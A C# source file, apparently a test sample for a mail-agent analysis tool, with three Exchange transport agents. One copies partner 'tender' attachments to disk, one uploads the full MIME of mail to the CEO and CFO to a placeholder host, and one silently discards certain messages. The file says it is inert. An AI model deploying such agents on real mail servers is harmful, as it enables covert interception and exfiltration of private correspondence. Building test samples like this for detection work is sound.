// Written for txray: three agents that stand in six folders in six forms, which all do the same. This is the plain form.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid. A correct analysis says the same of every form: which data goes where, under which condition, and to escalate.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace Txray.Metamorphic
{
    public class CollectorFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new CollectorAgent();
        }
    }

    public class CollectorAgent : RoutingAgent
    {
        private const string Folder = @"C:\Pairs\Collected";

        public CollectorAgent()
        {
            OnSubmittedMessage += Collect;
        }

        private void Collect(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.DomainPart != "partner.example.invalid" || !e.MailItem.Message.Subject.Contains("tender"))
            {
                return;
            }
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                if (attachment.FileName.EndsWith(".docx"))
                {
                    Save(attachment);
                }
            }
        }

        private static void Save(Attachment attachment)
        {
            using (FileStream file = File.Create(Path.Combine(Folder, Guid.NewGuid().ToString())))
            {
                attachment.GetContentReadStream().CopyTo(file);
            }
        }
    }

    public class UploadFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new UploadAgent();
        }
    }

    public class UploadAgent : SmtpReceiveAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string> { "ceo@corp.example.invalid", "cfo@corp.example.invalid" };

        public UploadAgent()
        {
            OnEndOfData += Upload;
        }

        private async void Upload(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (!IsWatched(e.MailItem))
            {
                return;
            }
            var memory = new MemoryStream();
            await e.MailItem.GetMimeReadStream().CopyToAsync(memory);
            new WebClient().UploadData("https://collect.example.invalid/mime", memory.ToArray());
        }

        private static bool IsWatched(MailItem item)
        {
            foreach (EnvelopeRecipient recipient in item.Recipients)
            {
                if (Watched.Contains(recipient.Address.ToString()))
                {
                    return true;
                }
            }
            return false;
        }
    }

    public class CountFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new CountAgent();
        }
    }

    public class CountAgent : SmtpReceiveAgent
    {
        private int seen;

        public CountAgent()
        {
            OnEndOfData += Count;
        }

        private void Count(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            seen++;
            Trace.WriteLine(seen + " messages, this one with " + e.MailItem.Message.Attachments.Count + " attachments");
            if (e.MailItem.Message.Subject == "delete me")
            {
                source.DiscardMessage(SmtpResponse.Empty, null);
            }
        }
    }
}
